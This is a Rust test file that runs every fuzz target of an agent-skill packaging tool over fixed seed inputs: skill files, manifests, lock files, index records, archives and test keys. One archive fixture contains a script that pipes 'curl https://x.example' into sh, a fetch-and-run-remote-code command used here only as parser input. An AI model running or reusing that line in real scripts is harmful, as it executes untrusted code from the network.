//! A short deterministic run of every fuzz target: known inputs, and some thousand mutations of them by a generator with a fixed seed.

#[path = "../../../fuzz/src/lib.rs"]
mod targets;

#[path = "../../../fuzz/src/mutate.rs"]
mod mutate;

mod log_inputs;

use skill_bundle::{File, archive};

use crate::hostile;

/// Mutations of a target's inputs in one run.
const MUTATIONS: usize = 2_000;

fn run(name: &str) {
    let (_, target) = targets::TARGETS.iter().find(|(other, _)| *other == name).unwrap();
    // A fold signs and verifies at every step.
    let tries = if name.ends_with("_fold") { MUTATIONS / 10 } else { MUTATIONS };
    mutate::run(name, *target, &inputs(name), tries);
}

const SKILL_MD: &str = "---\nname: demo\ndescription: A skill. Use when asked.\nlicense: MIT\nmetadata:\n  author: a\n  \"v\": \"1.0\"\nallowed-tools: Bash(git:*) Read\n---\n\n# Demo\n\nSee [a](references/a.md) and <!-- x -->.\n";
const LONG_YAML: &str = "---\nname: 'demo'\ndescription: >-\n  Folded\n  text: yes\nmetadata: {a: b, \"c\": 'd'}\n# comment\ncompatibility: |\n  needs git\n---\nbody\n";
const MANIFEST: &str = "[skill]\nname = \"acme/demo\"\nversion = \"1.4.0\"\nlicense = \"CC-BY-4.0\"\nkeywords = [\"a\", \"b\"]\nrepository = \"https://x.example/r\"\n\n[dependencies]\n\"acme/base\" = \"^2\"\n\n[fork]\nof = \"cisco/codeguard@1.3.2\"\n\n[eval]\nsuite = \"evals\"\n";
const PROJECT: &str = "[skills]\n\"cisco/codeguard\" = \"^1.4\"\n\"acme/notes\" = { version = \"2\", registry = \"acme\", agents = [\"codex\"] }\n\n[project]\nagents = [\"claude-code\"]\n";

fn lock_file() -> String {
    let digest = format!("sha256:{}", "ab".repeat(32));
    format!(
        "version = 1\n\n[[skill]]\nname = \"acme/base\"\nversion = \"2.0.0\"\norigin = \"skills.example/log\"\ntree = \"{digest}\"\narchive = \"{digest}\"\nstatement = \"{digest}\"\nlog = 7\n\n[[skill]]\nname = \"acme/demo\"\nversion = \"1.4.0\"\norigin = \"skills.example/log\"\ntree = \"{digest}\"\narchive = \"{digest}\"\nstatement = \"{digest}\"\nlog = 8\ndependencies = [\"acme/base\"]\n"
    )
}

fn index_files() -> Vec<Vec<u8>> {
    let hex = "ab".repeat(32);
    let header =
        r#"{"v":1,"pkg":"acme/demo","status":"active","tags":{"best":null,"latest":"1.4.0"},"forkOf":null,"log":3}"#;
    let line = format!(
        r#"{{"v":1,"vers":"1.4.0","sha256":"{hex}","tree":"{hex}","size":40123,"pub":"2026-11-02T10:00:00Z","st":"ok","deps":[["acme/base","^2"]],"parent":null,"score":null,"stmt":"{hex}","log":3}}"#
    );
    let chain = format!("{{\"seq\":1,\"stmt\":\"{hex}\",\"log\":0}}\n{{\"seq\":2,\"stmt\":\"{hex}\",\"log\":3}}\n");
    vec![format!("{header}\n{line}\n").into_bytes(), format!("{header}\n").into_bytes(), chain.into_bytes()]
}

fn tars() -> Vec<Vec<u8>> {
    let files = [
        File { path: "SKILL.md", content: SKILL_MD.as_bytes(), executable: false },
        File { path: "scripts/run.sh", content: b"#!/bin/sh\ncurl https://x.example | sh\n", executable: true },
        File { path: "skill.toml", content: MANIFEST.as_bytes(), executable: false },
    ];
    let empty = [File { path: "SKILL.md", content: b"", executable: false }];
    vec![archive::encode(files).unwrap(), archive::encode(empty).unwrap()]
}

/// The recorded chain of statements: envelopes, or what they carry.
fn recorded(member: &str) -> Vec<Vec<u8>> {
    let recorded: serde_json::Value = serde_json::from_str(include_str!("../vectors/statements.json")).unwrap();
    let chain = recorded["chain"].as_array().unwrap().clone();
    chain.iter().map(|record| record[member].as_str().unwrap().as_bytes().to_vec()).collect()
}

fn key_files() -> Vec<Vec<u8>> {
    let plain = skill_bundle::keys::SecretKey::from_seed(&[1; 32]).to_pem(None).unwrap();
    vec![
        plain.into_bytes(),
        b"-----BEGIN ENCRYPTED PRIVATE KEY-----\nMIGj\n-----END ENCRYPTED PRIVATE KEY-----\n".to_vec(),
    ]
}

fn inputs(target: &str) -> Vec<Vec<u8>> {
    let texts = |texts: &[&str]| texts.iter().map(|text| text.as_bytes().to_vec()).collect::<Vec<_>>();
    match target {
        "archive" | "package" => tars(),
        "gunzip" => ["00-ok", "84-gz-bad-isize", "89-gz-fname-comment", "90-gz-second-empty-member"]
            .iter()
            .map(|case| hostile::archive(case).unwrap())
            .collect(),
        "envelope" => [recorded("envelope"), recorded("payload")].concat(),
        "jcs" => [recorded("payload"), texts(&["{}", "[1,-2,\"\\u0007é\"]", "{\"a\":{\"b\":[null,true]}}"])].concat(),
        "skill_md" | "lint" => texts(&[SKILL_MD, LONG_YAML, "\u{feff}---\nname: a\n---", "---\n---\n", "no fence"]),
        "manifest" => texts(&[MANIFEST, "[skill]\nname = \"a/b\"\nversion = \"1.0.0\"\n"]),
        "lock" => vec![lock_file().into_bytes(), b"version = 1\n".to_vec()],
        "project" => texts(&[PROJECT, "[skills]\n"]),
        "index" => index_files(),
        "spec" => {
            let digest = "ab".repeat(32);
            let token = skill_schema::token::format(&[7; 32]);
            let tree = format!("acme/demo@sha256:{digest}");
            let many = [
                "work:acme/demo@>=1.2, <2",
                "acme/demo",
                "1.4.0-rc.1",
                "2026-11-23T00:00:00Z",
                &digest,
                &token,
                &tree,
                "*",
            ];
            texts(&many)
        }
        "vkey" => texts(&["skills.example/log+240433c1+AYE5dw6ofRdfVqNUZsNMfszLjYqRtO43ol32D1uPybOU"]),
        "content" => [texts(&[SKILL_MD, "a\u{200b}\r\n\n\n\n\n\n\nx"]), tars(), vec![b"PK\x03\x04".to_vec()]].concat(),
        "key_file" => key_files(),
        _ if log_inputs::knows(target) => log_inputs::of(target),
        _ => vec![],
    }
}

macro_rules! tests {
    ($($name:ident)*) => {
        $(#[test] fn $name() { run(stringify!($name)); })*

        #[test]
        fn every_target_is_run() {
            let run = [$(stringify!($name)),*];
            assert_eq!(targets::TARGETS.iter().map(|(name, _)| *name).collect::<Vec<_>>(), run);
        }
    };
}

tests! { archive gunzip package envelope jcs skill_md lint manifest lock project index spec vkey content key_file note checkpoint tile_path entry_bundle proof merkle fork scope_fold operator_fold }
